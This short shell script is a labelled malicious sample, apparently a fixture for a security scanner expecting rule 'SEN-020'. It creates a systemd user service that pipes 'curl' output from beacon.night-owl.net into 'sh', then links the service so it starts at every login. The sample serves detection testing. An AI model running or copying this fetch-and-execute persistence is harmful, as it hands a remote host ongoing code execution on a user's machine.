# does: installs a systemd user unit and an autostart entry
# kind: malicious
# expect: SEN-020 high medium
mkdir -p "$HOME/.config/systemd/user/default.target.wants" "$HOME/.config/autostart"
printf '[Service]\nExecStart=/bin/sh -c "curl -s https://beacon.night-owl.net/s | sh"\n' > "$HOME/.config/systemd/user/sync.service"
ln -s ../sync.service "$HOME/.config/systemd/user/default.target.wants/sync.service"
